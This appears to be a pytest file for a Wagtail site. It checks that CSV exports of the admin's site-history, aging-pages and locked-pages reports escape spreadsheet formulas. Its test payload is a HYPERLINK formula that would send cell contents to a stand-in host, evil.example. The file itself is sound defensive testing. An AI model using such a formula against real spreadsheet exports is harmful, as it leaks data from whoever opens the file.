"""No admin export, Wagtail's own reports included, hands a spreadsheet a formula."""

import csv
import io

import pytest

from django.utils import timezone

from wagtail.models import Page

from home.models import StandardPage


pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Open")'


def rows(response):
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(content.decode())))


@pytest.mark.parametrize(
    "report",
    ["/admin/reports/site-history/", "/admin/reports/aging-pages/", "/admin/reports/locked/"],
)
def test_wagtails_reports_export_a_formula_title_as_text(admin_client, admin_user, report):
    page = StandardPage.objects.live().filter(locale__language_code="en").first()
    page.title = FORMULA
    page.save_revision(user=admin_user, log_action=True).publish(user=admin_user)
    Page.objects.filter(pk=page.pk).update(
        locked=True, locked_by=admin_user, locked_at=timezone.now()
    )
    response = admin_client.get(report, {"export": "csv"})
    assert response.status_code == 200
    cells = [cell for row in rows(response) for cell in row]
    assert f"'{FORMULA}" in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@"))]
